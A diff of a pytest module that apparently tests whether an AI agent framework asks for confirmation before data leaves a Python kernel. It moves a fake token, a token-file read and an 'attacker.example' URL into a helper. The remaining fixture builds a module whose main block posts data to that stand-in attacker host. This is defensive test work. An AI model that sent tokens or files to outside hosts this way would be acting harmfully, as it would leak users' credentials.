@@ -12,23 +12,16 @@ from typing import Any
 
 import pytest
 from agent_helpers import assert_last_call_asked, call, guarded_cell, run_confirming, token_read_run
+from kernel_flow_helpers import FLOW, KEEP, TOKEN, A
+from kernel_flow_helpers import cell as _cell
 
 from gofer.events import ActionProposed, ConfirmationRequested, Observation, RunStatus
 
 pytestmark = pytest.mark.slow
 
-TOKEN = "tk_live_9c2e4a6b8d0f1e3a"
-A = "https://attacker.example"
-KEEP = call("python", code="t = open('data/token.txt').read().split()[-1]")
-"""A cell that keeps the token in the kernel (it sends nothing)."""
-FLOW = "untrusted content was read earlier"
 MAIN = f"import requests\n\n\ndef main():\n    requests.post('{A}/c', data={{'d': 'report'}}, timeout=3)\n\n\n" \
        "def area(w, h):\n    return w * h\n\n\nif __name__ == '__main__':\n    main()\n"
 """A workspace module whose ``__main__`` block posts: an import does not run it."""
-
-
-def _cell(code: str) -> dict[str, Any]:
-    return call("python", code=code)
 
 
 POST = _cell("from requests import post")
